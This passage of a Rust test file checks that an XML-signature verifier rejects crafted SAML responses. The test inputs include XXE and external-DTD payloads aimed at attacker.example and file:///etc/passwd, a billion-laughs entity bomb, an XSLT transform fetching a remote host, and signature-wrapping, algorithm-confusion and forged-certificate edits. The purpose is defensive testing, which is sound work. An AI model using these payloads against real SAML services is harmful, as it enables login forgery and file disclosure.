//! One test per rule of [`xmldsig::verify`], each asserting the exact error code.
//!
//! Every test starts from a positive control: the signed fixture it is about to edit verifies
//! unmodified. Crafted documents are made by signing `common::saml_response` and then editing the
//! signed text (string replacement or insertion). The structure and algorithm checks run before
//! any cryptography, so an edited algorithm URI or transform reaches its own error even though the
//! edit also breaks the signature.
//!
//! The attacks are the ones in `shared/research/saml.md` "Attack catalogue": DOCTYPE and entity
//! payloads, signature exclusion, XSW wrapping, comment injection (CVE-2017-11427 family),
//! certificate faking through KeyInfo, HMAC key confusion, extra transforms (CVE-2022-47966), weak
//! algorithms.

mod common;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use roxmltree::{Document, Node};
use xmldsig::{
    Certificate, DigestAlgorithm, Limits, Policy, SignOptions, SignatureAlgorithm, parse_str, sign,
    verify,
};

const SAML: &str = "urn:oasis:names:tc:SAML:2.0:assertion";
const SAMLP: &str = "urn:oasis:names:tc:SAML:2.0:protocol";
const DS: &str = "http://www.w3.org/2000/09/xmldsig#";

const EXC_C14N: &str = "http://www.w3.org/2001/10/xml-exc-c14n#";
const ENVELOPED: &str = "http://www.w3.org/2000/09/xmldsig#enveloped-signature";
const RSA_SHA256: &str = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256";
const SHA256: &str = "http://www.w3.org/2001/04/xmlenc#sha256";

const RESPONSE_ID: &str = "_resp-5c0f9e31";
const ASSERTION_ID: &str = "_assert-8d41b27a";

/// The Transforms element exactly as `xmldsig::sign` writes it for the fixture, whose attribute
/// values use `xs:` in `xsi:type` (hence the PrefixList).
fn signed_transforms() -> String {
    format!(
        r#"<ds:Transforms><ds:Transform Algorithm="{ENVELOPED}"/><ds:Transform Algorithm="{EXC_C14N}"><ec:InclusiveNamespaces xmlns:ec="{EXC_C14N}" PrefixList="xs"/></ds:Transform></ds:Transforms>"#
    )
}

fn transforms(algorithms: &[&str]) -> String {
    let inner: String = algorithms
        .iter()
        .map(|a| format!(r#"<ds:Transform Algorithm="{a}"/>"#))
        .collect();
    format!("<ds:Transforms>{inner}</ds:Transforms>")
}

/// `xml` with `from`, which must occur exactly once, replaced by `to`.
fn replace_once(xml: &str, from: &str, to: &str) -> String {
    assert_eq!(
        xml.matches(from).count(),
        1,
        "edit anchor {from:?} must occur exactly once"
    );
    xml.replacen(from, to, 1)
}

/// The text of the first element that starts with `open` (e.g. `<ds:Signature`) and ends with
/// the first `close` after it. The fixtures never nest an element inside one of the same name.
fn element_text<'x>(xml: &'x str, open: &str, close: &str) -> &'x str {
    let start = xml.find(open).expect("element start is present");
    let end = start + xml[start..].find(close).expect("element end is present") + close.len();
    &xml[start..end]
}

fn signature_of(xml: &str) -> &str {
    element_text(xml, "<ds:Signature ", "</ds:Signature>")
}

fn assertion_of(xml: &str) -> &str {
    element_text(xml, "<saml:Assertion ", "</saml:Assertion>")
}

/// Anchor just after the Response's own Issuer, where `samlp:Extensions` belongs.
const AFTER_RESPONSE_ISSUER: &str = "</saml:Issuer>\n  <samlp:Status>";

fn with_extensions(xml: &str, content: &str) -> String {
    replace_once(
        xml,
        AFTER_RESPONSE_ISSUER,
        &format!(
            "</saml:Issuer>\n  <samlp:Extensions>{content}</samlp:Extensions>\n  <samlp:Status>"
        ),
    )
}

/// Which element of a document is handed to `verify`.
#[derive(Debug, Clone, Copy)]
enum Target {
    /// The Response's direct `saml:Assertion` child: what an SP goes on to read.
    Assertion,
    /// The Response itself.
    Response,
    /// The parent of the document's first `ds:Signature`, wherever it was moved.
    SignatureParent,
}

impl Target {
    fn find<'a, 'i>(self, doc: &'a Document<'i>) -> Option<Node<'a, 'i>> {
        let response = doc.root_element();
        match self {
            Target::Assertion => response
                .children()
                .find(|n| n.has_tag_name((SAML, "Assertion"))),
            Target::Response => Some(response),
            Target::SignatureParent => doc
                .descendants()
                .find(|n| n.has_tag_name((DS, "Signature")))
                .and_then(|s| s.parent_element()),
        }
    }
}

/// Parses `xml`, verifies `target` and returns which certificate verified, or the error code of
/// the first failure (parse or verify).
fn check(
    xml: &str,
    target: Target,
    trusted: &[Certificate],
    policy: &Policy,
) -> Result<usize, &'static str> {
    let doc = parse_str(xml, &Limits::default()).map_err(|e| e.code())?;
    let element = target.find(&doc).expect("the target element exists");
    verify(element, trusted, policy)
        .map(|v| v.certificate_index())
        .map_err(|e| e.code())
}

fn sign_assertion(xml: &str, stem: &str, options: &SignOptions) -> String {
    sign(xml, ASSERTION_ID, &common::key(stem), options).expect("fixture signs")
}

fn options(signature: SignatureAlgorithm, digest: DigestAlgorithm) -> SignOptions {
    SignOptions {
        signature,
        digest,
        include_certificate: true,
    }
}

/// One signed fixture per test, with the certificate that verifies it.
struct Signed {
    xml: String,
    cert: Certificate,
}

impl Signed {
    /// `common::saml_response` with its Assertion signed by `stem`.
    fn new(stem: &str, signature: SignatureAlgorithm, digest: DigestAlgorithm) -> Self {
        Self::of(
            &common::saml_response(RESPONSE_ID, ASSERTION_ID),
            stem,
            signature,
            digest,
        )
    }

    /// `unsigned` with its Assertion signed by `stem`.
    fn of(
        unsigned: &str,
        stem: &str,
        signature: SignatureAlgorithm,
        digest: DigestAlgorithm,
    ) -> Self {
        Signed {
            xml: sign_assertion(unsigned, stem, &options(signature, digest)),
            cert: common::cert(stem),
        }
    }

    /// RSA-SHA256 by the current IdP key, as most IdPs sign.
    fn rsa() -> Self {
        Self::new(
            "idp-rsa-current",
            SignatureAlgorithm::RsaSha256,
            DigestAlgorithm::Sha256,
        )
    }

    fn ec() -> Self {
        Self::new(
            "idp-ec-current",
            SignatureAlgorithm::EcdsaSha256,
            DigestAlgorithm::Sha256,
        )
    }

    /// The positive control: the fixture, unmodified, verifies with its certificate.
    fn assert_verifies(&self) -> &Self {
        assert_eq!(self.check(&self.xml), Ok(0), "positive control");
        self
    }

    fn edit(&self, from: &str, to: &str) -> String {
        replace_once(&self.xml, from, to)
    }

    /// Outcome of verifying the Response's Assertion in `xml` with this fixture's certificate
    /// under the default (strict) policy.
    fn check(&self, xml: &str) -> Result<usize, &'static str> {
        self.check_at(xml, Target::Assertion)
    }

    fn check_at(&self, xml: &str, target: Target) -> Result<usize, &'static str> {
        check(
            xml,
            target,
            std::slice::from_ref(&self.cert),
            &Policy::default(),
        )
    }

    fn signature(&self) -> &str {
        signature_of(&self.xml)
    }
}

fn allow_sha1() -> Policy {
    Policy {
        allow_sha1: true,
        ..Policy::default()
    }
}

// ---------------------------------------------------------------------------------------------
// Before the tree: DOCTYPE and entities.

#[test]
fn rejects_doctype_before_reading_anything() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    for doctype in [
        "<!DOCTYPE samlp:Response>",
        r#"<!DOCTYPE samlp:Response SYSTEM "http://attacker.example/evil.dtd">"#,
        r#"<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>"#,
    ] {
        let xml = signed.edit(
            "\n<samlp:Response ",
            &format!("\n{doctype}\n<samlp:Response "),
        );
        assert_eq!(
            parse_str(&xml, &Limits::default())
                .map(|_| ())
                .map_err(|e| e.code()),
            Err("doctype_forbidden"),
            "{doctype}"
        );
        assert_eq!(signed.check(&xml), Err("doctype_forbidden"), "{doctype}");
    }
}

#[test]
fn rejects_billion_laughs_entity_payload() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    let mut entities = String::from(r#"<!ENTITY lol0 "lol">"#);
    for i in 1..10 {
        let previous = format!("&lol{};", i - 1).repeat(10);
        entities.push_str(&format!(r#"<!ENTITY lol{i} "{previous}">"#));
    }
    let xml = signed
        .edit(
            "\n<samlp:Response ",
            &format!("\n<!DOCTYPE samlp:Response [{entities}]>\n<samlp:Response "),
        )
        .replacen(
            ">alice@example.com</saml:NameID>",
            ">&lol9;</saml:NameID>",
            1,
        );
    assert_eq!(
        parse_str(&xml, &Limits::default())
            .map(|_| ())
            .map_err(|e| e.code()),
        Err("doctype_forbidden")
    );
    // An internal entity used to rewrite a signed value without the DTD being obviously hostile.
    let internal = signed
        .edit(
            "\n<samlp:Response ",
            "\n<!DOCTYPE samlp:Response [<!ENTITY who \"alice@example.com\">]>\n<samlp:Response ",
        )
        .replacen(
            ">alice@example.com</saml:NameID>",
            ">&who;</saml:NameID>",
            1,
        );
    assert_eq!(signed.check(&internal), Err("doctype_forbidden"));
}

#[test]
fn rejects_undeclared_entity_reference() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    let xml = signed.edit(">alice@example.com</saml:NameID>", ">&who;</saml:NameID>");
    assert_eq!(signed.check(&xml), Err("malformed_xml"));
}

// ---------------------------------------------------------------------------------------------
// Presence and placement of the Signature.

#[test]
fn rejects_stripped_signature() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    let xml = signed.edit(signed.signature(), "");
    assert_eq!(signed.check(&xml), Err("missing_signature"));
    // Never signed at all.
    let unsigned = common::saml_response(RESPONSE_ID, ASSERTION_ID);
    assert_eq!(signed.check(&unsigned), Err("missing_signature"));
}

#[test]
fn rejects_signature_in_a_foreign_namespace() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    let xml = signed.edit(
        r#"<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#">"#,
        r#"<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig-fake#">"#,
    );
    assert_eq!(signed.check(&xml), Err("missing_signature"));
}

#[test]
fn rejects_signature_nested_below_the_signed_element() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    let signature = signed.signature();
    let xml = replace_once(
        &signed.edit(signature, ""),
        "<saml:Subject>",
        &format!("<saml:Subject>{signature}"),
    );
    assert_eq!(signed.check(&xml), Err("missing_signature"));
    // And the element that now holds it has no ID to match the Reference.
    assert_eq!(
        signed.check_at(&xml, Target::SignatureParent),
        Err("missing_id")
    );
}

#[test]
fn rejects_two_signatures_on_one_element() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    let signature = signed.signature();
    let xml = signed.edit(signature, &format!("{signature}{signature}"));
    assert_eq!(signed.check(&xml), Err("multiple_signatures"));
    // A second, different signature (another key's) is refused the same way: which one counts
    // would be a guess.
    let other = Signed::new(
        "idp-rsa-next",
        SignatureAlgorithm::RsaSha256,
        DigestAlgorithm::Sha256,
    );
    let xml = signed.edit(signature, &format!("{signature}{}", other.signature()));
    assert_eq!(signed.check(&xml), Err("multiple_signatures"));
}

// ---------------------------------------------------------------------------------------------
// Shape of the Signature.

#[test]
fn rejects_object_inside_signature() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    let xml = signed.edit(
        "</ds:KeyInfo></ds:Signature>",
        "</ds:KeyInfo><ds:Object><evil xmlns=\"urn:evil\"/></ds:Object></ds:Signature>",
    );
    assert_eq!(signed.check(&xml), Err("unexpected_structure"));
    let manifest = signed.edit(
        "</ds:KeyInfo></ds:Signature>",
        "</ds:KeyInfo><ds:Object><ds:Manifest/></ds:Object></ds:Signature>",
    );
    assert_eq!(signed.check(&manifest), Err("unexpected_structure"));
}

#[test]
fn rejects_unknown_element_inside_signed_info() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    let xml = signed.edit(
        "</ds:Reference></ds:SignedInfo>",
        "</ds:Reference><ds:Manifest/></ds:SignedInfo>",
    );
    assert_eq!(signed.check(&xml), Err("unexpected_structure"));
    let two_values = signed.edit(
        "</ds:SignatureValue>",
        "</ds:SignatureValue><ds:SignatureValue>AAAA</ds:SignatureValue>",
    );
    assert_eq!(signed.check(&two_values), Err("unexpected_structure"));
}

#[test]
fn rejects_signature_without_signed_info() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    let signed_info = element_text(&signed.xml, "<ds:SignedInfo>", "</ds:SignedInfo>");
    let xml = signed.edit(signed_info, "");
    assert_eq!(signed.check(&xml), Err("missing_element"));
}

#[test]
fn rejects_two_references() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    let reference = element_text(&signed.xml, "<ds:Reference ", "</ds:Reference>");
    let xml = signed.edit(reference, &format!("{reference}{reference}"));
    assert_eq!(signed.check(&xml), Err("reference_count"));
    let none = signed.edit(reference, "");
    assert_eq!(signed.check(&none), Err("reference_count"));
}

#[test]
fn rejects_reference_to_another_element() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    let uri = format!(r##"URI="#{ASSERTION_ID}""##);
    for other in [
        format!("#{RESPONSE_ID}"),
        format!("#{ASSERTION_ID}x"),
        format!("#{}", ASSERTION_ID.to_uppercase()),
        format!("# {ASSERTION_ID}"),
        ASSERTION_ID.to_owned(),
    ] {
        let xml = signed.edit(&uri, &format!(r#"URI="{other}""#));
        assert_eq!(signed.check(&xml), Err("reference_mismatch"), "{other}");
    }
}

#[test]
fn rejects_xpointer_reference() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    let uri = format!(r##"URI="#{ASSERTION_ID}""##);
    for xpointer in [
        "#xpointer(/)".to_owned(),
        format!("#xpointer(id('{ASSERTION_ID}'))"),
    ] {
        let xml = signed.edit(&uri, &format!(r#"URI="{xpointer}""#));
        assert_eq!(signed.check(&xml), Err("reference_mismatch"), "{xpointer}");
    }
}

#[test]
fn rejects_empty_reference_uri() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    let uri = format!(r##"URI="#{ASSERTION_ID}""##);
    // URI="" means the whole document, which with the enveloped transform is a different signed
    // content than the element.
    let empty = signed.edit(&uri, r#"URI="""#);
    assert_eq!(signed.check(&empty), Err("reference_mismatch"));
    let hash_only = signed.edit(&uri, r##"URI="#""##);
    assert_eq!(signed.check(&hash_only), Err("reference_mismatch"));
    let absent = signed.edit(&format!(" {uri}"), "");
    assert_eq!(signed.check(&absent), Err("reference_mismatch"));
}

#[test]
fn rejects_signed_element_without_id() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    let xml = signed.edit(
        &format!(r#"<saml:Assertion ID="{ASSERTION_ID}""#),
        "<saml:Assertion",
    );
    assert_eq!(signed.check(&xml), Err("missing_id"));
}

#[test]
fn rejects_duplicate_id_elsewhere_in_the_document() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    // A copy of the assertion with the same ID in the Response's Extensions.
    let copy = common::saml_response(RESPONSE_ID, ASSERTION_ID);
    let copy = assertion_of(&copy);
    let xml = with_extensions(&signed.xml, copy);
    assert_eq!(signed.check(&xml), Err("duplicate_id"));
    // The same ID under the other spellings of an ID attribute.
    for attribute in ["ID", "Id", "id", "xml:id"] {
        let xml = with_extensions(
            &signed.xml,
            &format!(r#"<x:Evil xmlns:x="urn:evil" {attribute}="{ASSERTION_ID}"/>"#),
        );
        assert_eq!(signed.check(&xml), Err("duplicate_id"), "{attribute}");
    }
    // The Response reusing the assertion's ID.
    let xml = signed.edit(
        &format!(r#"ID="{RESPONSE_ID}""#),
        &format!(r#"ID="{ASSERTION_ID}""#),
    );
    assert_eq!(signed.check(&xml), Err("duplicate_id"));
}

#[test]
fn rejects_rebinding_a_prefix_the_assertion_uses() {
    // `saml` is declared on the unsigned Response but used by the Assertion, so exc-c14n renders
    // it on the Assertion and its URI is signed.
    let signed = Signed::rsa();
    signed.assert_verifies();
    let xml = signed.edit(
        r#"xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion""#,
        r#"xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" xmlns:s2="urn:oasis:names:tc:SAML:2.0:assertion""#,
    );
    assert_eq!(
        signed.check(&xml),
        Ok(0),
        "an unused extra declaration is not signed"
    );
    let xml = signed.edit(
        r#"xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion""#,
        r#"xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion-evil""#,
    );
    assert_eq!(
        signed.check_at(&xml, Target::SignatureParent),
        Err("digest_mismatch")
    );
}

#[test]
fn rejects_rebinding_a_prefix_used_only_inside_xsi_type_values() {
    // `xs` is used only in attribute values (`xsi:type="xs:string"`), which exc-c14n does not
    // see as a use; `sign` names it in the PrefixList so that its binding is signed too.
    let signed = Signed::rsa();
    signed.assert_verifies();
    assert!(signed.xml.contains(r#"PrefixList="xs""#));
    let xml = signed.edit(
        r#"xmlns:xs="http://www.w3.org/2001/XMLSchema""#,
        r#"xmlns:xs="urn:attacker:types""#,
    );
    assert_eq!(
        signed.check_at(&xml, Target::SignatureParent),
        Err("digest_mismatch")
    );
}

// ---------------------------------------------------------------------------------------------
// Algorithms.

#[test]
fn rejects_sha1_digest_unless_policy_allows_it() {
    let signed = Signed::new(
        "idp-rsa-current",
        SignatureAlgorithm::RsaSha256,
        DigestAlgorithm::Sha1,
    );
    let trusted = std::slice::from_ref(&signed.cert);
    assert_eq!(
        check(&signed.xml, Target::Assertion, trusted, &allow_sha1()),
        Ok(0),
        "positive control under the SHA-1 policy"
    );
    assert_eq!(signed.check(&signed.xml), Err("sha1_forbidden"));

    // The same refusal when SHA-1 is edited into a SHA-256 signature.
    let sha256 = Signed::rsa();
    sha256.assert_verifies();
    let xml = sha256.edit(
        &format!(r#"<ds:DigestMethod Algorithm="{SHA256}"/>"#),
        r#"<ds:DigestMethod Algorithm="http://www.w3.org/2000/09/xmldsig#sha1"/>"#,
    );
    assert_eq!(sha256.check(&xml), Err("sha1_forbidden"));
}

#[test]
fn rejects_sha1_signature_methods_unless_policy_allows_them() {
    for (stem, algorithm) in [
        ("idp-rsa-current", SignatureAlgorithm::RsaSha1),
        ("idp-ec-current", SignatureAlgorithm::EcdsaSha1),
    ] {
        let signed = Signed::new(stem, algorithm, DigestAlgorithm::Sha256);
        let trusted = std::slice::from_ref(&signed.cert);
        assert_eq!(
            check(&signed.xml, Target::Assertion, trusted, &allow_sha1()),
            Ok(0),
            "positive control under the SHA-1 policy: {algorithm:?}"
        );
        assert_eq!(
            signed.check(&signed.xml),
            Err("sha1_forbidden"),
            "{algorithm:?}"
        );
    }
    let sha256 = Signed::rsa();
    sha256.assert_verifies();
    let xml = sha256.edit(RSA_SHA256, "http://www.w3.org/2000/09/xmldsig#rsa-sha1");
    assert_eq!(sha256.check(&xml), Err("sha1_forbidden"));
}

#[test]
fn rejects_hmac_signature_method() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    let method = format!(r#"<ds:SignatureMethod Algorithm="{RSA_SHA256}"/>"#);
    for hmac in [
        "http://www.w3.org/2000/09/xmldsig#hmac-sha1",
        "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
        "http://www.w3.org/2001/04/xmldsig-more#hmac-sha512",
    ] {
        let xml = signed.edit(
            &method,
            &format!(r#"<ds:SignatureMethod Algorithm="{hmac}"/>"#),
        );
        assert_eq!(signed.check(&xml), Err("hmac_forbidden"), "{hmac}");
        // Not even a policy that relaxes SHA-1 lets HMAC in.
        let trusted = std::slice::from_ref(&signed.cert);
        assert_eq!(
            check(&xml, Target::Assertion, trusted, &allow_sha1()),
            Err("hmac_forbidden"),
            "{hmac}"
        );
        // The truncated-HMAC form, with HMACOutputLength.
        let truncated = signed.edit(
            &method,
            &format!(
                r#"<ds:SignatureMethod Algorithm="{hmac}"><ds:HMACOutputLength>80</ds:HMACOutputLength></ds:SignatureMethod>"#
            ),
        );
        assert_eq!(signed.check(&truncated), Err("hmac_forbidden"), "{hmac}");
    }
}

#[test]
fn rejects_xpath_and_xslt_transforms() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    let extra_transforms = [
        r#"<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>not(ancestor-or-self::ds:Signature)</ds:XPath></ds:Transform>"#,
        r#"<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><xsl:copy-of select="document('http://attacker.example/')"/></xsl:template></xsl:stylesheet></ds:Transform>"#,
        r#"<ds:Transform Algorithm="http://www.w3.org/2002/06/xmldsig-filter2"><dsig-xpath:XPath xmlns:dsig-xpath="http://www.w3.org/2002/06/xmldsig-filter2" Filter="subtract">//saml:Subject</dsig-xpath:XPath></ds:Transform>"#,
        // Allowed algorithms used as the wrong transform are still not allowed transforms.
        r#"<ds:Transform Algorithm="http://www.w3.org/TR/2001/REC-xml-c14n-20010315"/>"#,
        r#"<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#WithComments"/>"#,
        r#"<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#base64"/>"#,
    ];
    for extra in extra_transforms {
        // Appended after the allowed pair, and placed between them.
        let appended = signed.edit("</ds:Transforms>", &format!("{extra}</ds:Transforms>"));
        assert_eq!(
            signed.check(&appended),
            Err("transform_forbidden"),
            "{extra}"
        );
        let between = signed.edit(
            &format!(r#"<ds:Transform Algorithm="{EXC_C14N}">"#),
            &format!(r#"{extra}<ds:Transform Algorithm="{EXC_C14N}">"#),
        );
        assert_eq!(
            signed.check(&between),
            Err("transform_forbidden"),
            "{extra}"
        );
    }
}

#[test]
fn rejects_transforms_out_of_order_or_missing() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    let original = signed_transforms();
    for chain in [
        vec![EXC_C14N, ENVELOPED],
        vec![EXC_C14N],
        vec![ENVELOPED],
        vec![],
        vec![ENVELOPED, ENVELOPED, EXC_C14N],
        vec![ENVELOPED, EXC_C14N, EXC_C14N],
    ] {
        let xml = signed.edit(&original, &transforms(&chain));
        assert_eq!(
            signed.check(&xml),
            Err("transform_chain_invalid"),
            "{chain:?}"
        );
    }
    // No Transforms element at all is a missing required element.
    let xml = signed.edit(&original, "");
    assert_eq!(signed.check(&xml), Err("missing_element"));
}

#[test]
fn rejects_canonicalization_other_than_exclusive_without_comments() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    let method = format!(r#"<ds:CanonicalizationMethod Algorithm="{EXC_C14N}"/>"#);
    for algorithm in [
        "http://www.w3.org/TR/2001/REC-xml-c14n-20010315",
        "http://www.w3.org/TR/2001/REC-xml-c14n-20010315#WithComments",
        "http://www.w3.org/2001/10/xml-exc-c14n#WithComments",
        "http://www.w3.org/2006/12/xml-c14n11",
    ] {
        let xml = signed.edit(
            &method,
            &format!(r#"<ds:CanonicalizationMethod Algorithm="{algorithm}"/>"#),
        );
        assert_eq!(
            signed.check(&xml),
            Err("canonicalization_forbidden"),
            "{algorithm}"
        );
    }
}

#[test]
fn rejects_unknown_algorithms() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    for algorithm in [
        "http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1",
        "http://www.w3.org/2001/04/xmldsig-more#RSA-SHA256",
        "http://www.w3.org/2000/09/xmldsig#dsa-sha1",
        "urn:example:none",
        "",
    ] {
        let xml = signed.edit(RSA_SHA256, algorithm);
        assert_eq!(
            signed.check(&xml),
            Err("algorithm_unsupported"),
            "SignatureMethod {algorithm:?}"
        );
    }
    for algorithm in [
        "http://www.w3.org/2001/04/xmldsig-more#md5",
        "http://www.w3.org/2001/04/xmldsig-more#sha224",
        "http://www.w3.org/2007/05/xmldsig-more#sha3-256",
        "",
    ] {
        let xml = signed.edit(SHA256, algorithm);
        assert_eq!(
            signed.check(&xml),
            Err("algorithm_unsupported"),
            "DigestMethod {algorithm:?}"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Cryptography.

#[test]
fn rejects_tampered_content() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    for (from, to) in [
        (
            ">alice@example.com</saml:NameID>",
            ">mallory@example.com</saml:NameID>",
        ),
        (
            r#"<saml:Audience>https://qualified.io</saml:Audience>"#,
            r#"<saml:Audience>https://attacker.example</saml:Audience>"#,
        ),
        (
            r#"<saml:Conditions NotBefore="2026-11-28T11:55:00Z" NotOnOrAfter="2026-11-28T12:05:00Z">"#,
            r#"<saml:Conditions NotBefore="2026-11-28T11:55:00Z" NotOnOrAfter="2036-11-28T12:05:00Z">"#,
        ),
        (">engineering<", ">admins<"),
        // Whitespace between elements is signed content too.
        ("</saml:Subject>\n", "</saml:Subject>\n\n"),
    ] {
        let xml = signed.edit(from, to);
        assert_eq!(signed.check(&xml), Err("digest_mismatch"), "{to}");
    }
}

/// `xml` with the last byte of its SignatureValue flipped.
fn flip_signature_value(xml: &str) -> String {
    let value = element_text(xml, "<ds:SignatureValue>", "</ds:SignatureValue>");
    let b64 = &value["<ds:SignatureValue>".len()..value.len() - "</ds:SignatureValue>".len()];
    let mut bytes = STANDARD
        .decode(b64)
        .expect("signed SignatureValue is base64");
    *bytes.last_mut().expect("signature is not empty") ^= 0x01;
    replace_once(xml, b64, &STANDARD.encode(bytes))
}

#[test]
fn rejects_tampered_signature_value() {
    for signed in [Signed::rsa(), Signed::ec()] {
        signed.assert_verifies();
        let xml = flip_signature_value(&signed.xml);
        assert_eq!(signed.check(&xml), Err("signature_invalid"));
        // Truncated and emptied values are refused the same way, not as an OpenSSL error.
        let value = element_text(&signed.xml, "<ds:SignatureValue>", "</ds:SignatureValue>");
        let xml = signed.edit(value, "<ds:SignatureValue>AAAA</ds:SignatureValue>");
        assert_eq!(signed.check(&xml), Err("signature_invalid"));
        let xml = signed.edit(value, "<ds:SignatureValue></ds:SignatureValue>");
        assert_eq!(signed.check(&xml), Err("signature_invalid"));
    }
}

#[test]
fn rejects_ecdsa_signature_value_with_padded_components() {
    // XML-DSig 1.1 §6.4.3: r and s are each I2OSP-encoded with l equal to the size of the
    // curve's base point order (32 bytes for P-256), so a P-256 SignatureValue is exactly 64
    // bytes. A 66-byte value (r and s each with a leading zero byte) is a second encoding of the
    // same signature, i.e. a malleable SignatureValue, and is not the format the spec allows.
    let signed = Signed::ec();
    signed.assert_verifies();
    let value = element_text(&signed.xml, "<ds:SignatureValue>", "</ds:SignatureValue>");
    let b64 = &value["<ds:SignatureValue>".len()..value.len() - "</ds:SignatureValue>".len()];
    let bytes = STANDARD
        .decode(b64)
        .expect("signed SignatureValue is base64");
    let (r, s) = bytes.split_at(bytes.len() / 2);
    let padded = [&[0u8][..], r, &[0u8][..], s].concat();
    let xml = signed.edit(b64, &STANDARD.encode(padded));
    assert_eq!(signed.check(&xml), Err("signature_invalid"));
}

#[test]
fn rejects_tampered_signed_info() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    // Whitespace added between SignedInfo's children changes its canonical form, which the
    // SignatureValue covers, while the digest of the assertion still matches.
    let xml = signed.edit("<ds:SignedInfo>", "<ds:SignedInfo>\n");
    assert_eq!(signed.check(&xml), Err("signature_invalid"));
}

#[test]
fn rejects_signature_by_an_untrusted_key() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    for stem in [
        "idp-rsa-attacker",
        "idp-rsa-next",
        "idp-rsa-expired",
        "sp-rsa",
    ] {
        let trusted = [common::cert(stem)];
        assert_eq!(
            check(&signed.xml, Target::Assertion, &trusted, &Policy::default()),
            Err("signature_invalid"),
            "{stem}"
        );
    }
    let ec = Signed::ec();
    ec.assert_verifies();
    let trusted = [common::cert("idp-ec-attacker"), common::cert("idp-ec-next")];
    assert_eq!(
        check(&ec.xml, Target::Assertion, &trusted, &Policy::default()),
        Err("signature_invalid")
    );
}

#[test]
fn rejects_key_kind_no_trusted_certificate_holds() {
    let ec = Signed::ec();
    ec.assert_verifies();
    let rsa_only = [
        common::cert("idp-rsa-current"),
        common::cert("idp-rsa-next"),
    ];
    assert_eq!(
        check(&ec.xml, Target::Assertion, &rsa_only, &Policy::default()),
        Err("no_compatible_certificate")
    );
    let rsa = Signed::rsa();
    rsa.assert_verifies();
    let ec_only = [common::cert("idp-ec-current")];
    assert_eq!(
        check(&rsa.xml, Target::Assertion, &ec_only, &Policy::default()),
        Err("no_compatible_certificate")
    );
}

#[test]
fn rejects_verification_without_trusted_certificates() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    assert_eq!(
        check(&signed.xml, Target::Assertion, &[], &Policy::default()),
        Err("no_trusted_certificates")
    );
    // Even an unsigned document gets this error first: no configuration, no verdict.
    let unsigned = common::saml_response(RESPONSE_ID, ASSERTION_ID);
    assert_eq!(
        check(&unsigned, Target::Assertion, &[], &Policy::default()),
        Err("no_trusted_certificates")
    );
}

#[test]
fn rejects_bad_base64() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    let digest = element_text(&signed.xml, "<ds:DigestValue>", "</ds:DigestValue>");
    let xml = signed.edit(digest, "<ds:DigestValue>!!not*base64!!</ds:DigestValue>");
    assert_eq!(signed.check(&xml), Err("bad_base64"));
    let value = element_text(&signed.xml, "<ds:SignatureValue>", "</ds:SignatureValue>");
    let xml = signed.edit(value, "<ds:SignatureValue>A===</ds:SignatureValue>");
    assert_eq!(signed.check(&xml), Err("bad_base64"));
}

#[test]
fn accepts_base64_with_line_breaks() {
    // Real IdPs wrap base64 at 64 or 76 columns; that is not a reason to refuse.
    let signed = Signed::rsa();
    signed.assert_verifies();
    let value = element_text(&signed.xml, "<ds:SignatureValue>", "</ds:SignatureValue>");
    let b64 = &value["<ds:SignatureValue>".len()..value.len() - "</ds:SignatureValue>".len()];
    let wrapped: Vec<String> = b64
        .as_bytes()
        .chunks(64)
        .map(|c| String::from_utf8_lossy(c).into_owned())
        .collect();
    let xml = signed.edit(b64, &format!("\n{}\n", wrapped.join("\r\n")));
    assert_eq!(signed.check(&xml), Ok(0));
}

#[test]
fn never_trusts_a_certificate_injected_through_key_info() {
    let signed = Signed::rsa();
    signed.assert_verifies();
    let current = common::cert("idp-rsa-current");
    // Re-signed by the attacker, whose certificate (same subject as the IdP's) rides in KeyInfo.
    let forged = sign_assertion(
        &common::saml_response(RESPONSE_ID, ASSERTION_ID),
        "idp-rsa-attacker",
        &SignOptions::default(),
    );
    assert!(forged.contains("<ds:X509Certificate>"));
    assert_eq!(
        check(
            &forged,
            Target::Assertion,
            std::slice::from_ref(&current),
            &Policy::default()
        ),
        Err("signature_invalid")
    );
    // The attacker's signature with the trusted certificate copied into KeyInfo: still refused.
